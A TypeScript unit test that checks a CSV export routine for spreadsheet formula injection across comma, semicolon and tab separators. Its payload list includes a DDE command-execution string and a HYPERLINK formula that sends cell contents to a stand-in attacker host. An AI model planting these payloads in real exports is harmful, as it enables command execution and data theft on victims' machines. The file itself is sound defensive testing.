import { readCsv, writeCsv } from '@/server/sheets/csv';

/** Texts that a spreadsheet would run as a formula. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '=HYPERLINK("http://evil.example?"&A1,"here")',
  '","=1+1',
  '";=1+1',
  'a,=1+1',
  'a;=1+1',
  '＝1+1',
  '|=1+1',
];

/** The beginnings of formulas, with spaces before them and in wide forms. */
const STARTS_A_FORMULA = /^[\s\u00a0\ufeff]*[=+\-@＝＋－＠\t\r]/;

/** The cells as a spreadsheet with this separator reads them; a quote inside a cell is text. */
const rawCells = (text: string, separator: string): readonly string[] => {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text.charAt(at);
    if (isQuoted && character === '"' && text.charAt(at + 1) === '"') {
      cell += '"';
      at += 1;
    } else if (character === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (!isQuoted && (character === separator || character === '\n')) {
      cells.push(cell);
      cell = '';
    } else if (character !== '\r' || isQuoted) cell += character;
  }
  return [...cells, cell];
};

test.each([',', ';', '\t'] as const)(
  'an export with the separator %j contains no formula, whatever separator the spreadsheet expects',
  (written) => {
    const text = writeCsv(
      ['name', 'address'],
      PAYLOADS.map((payload) => [payload, payload]),
      { separator: written },
    );
    for (const separator of [',', ';', '\t']) {
      expect(rawCells(text, separator).filter((cell) => STARTS_A_FORMULA.test(cell))).toEqual([]);
    }
    const cells = readCsv(text).flatMap((record) => record.cells);
    for (const payload of PAYLOADS) expect(cells).toContain(payload);
  },
);
